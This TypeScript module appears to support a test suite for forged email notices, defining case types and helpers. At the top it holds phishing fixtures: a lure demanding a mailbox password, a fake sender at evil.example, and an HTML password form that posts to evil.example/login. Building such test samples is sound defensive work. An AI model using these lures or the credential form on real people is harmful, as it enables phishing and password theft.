import type { IssuedMail } from './issued-mail.ts';

/** Words that a forger wants to be read, and addresses that shall get answers. */
export const LURE = 'Answer with your mailbox password or call +1 555 0142';
export const FORGER = 'payments@evil.example';
export const PAGE =
  '<h1>Please confirm your mailbox</h1><form action="https://evil.example/login">Password <input type=password></form>';

/** One forged notice: what was issued, put together otherwise. */
export interface ForgedCase {
  readonly class: string;
  readonly name: string;
  /** Who shows what of it: programs that were tried, or the specification that programs follow. */
  readonly shows: string;
  /** The forged mail, one byte a character. */
  readonly make: (issued: IssuedMail) => string;
}

/** Makes the cases of one class, so that each names itself only. */
export function toCases(
  group: string,
  shows: string,
  cases: readonly (readonly [name: string, make: ForgedCase['make']])[],
): readonly ForgedCase[] {
  return cases.map(([name, make]) => ({ class: group, name, shows, make }));
}

/** Every pair of two lists. */
export const pairs = <A, B>(some: readonly A[], others: readonly B[]): readonly (readonly [A, B])[] =>
  some.flatMap((one) => others.map((other) => [one, other] as const));
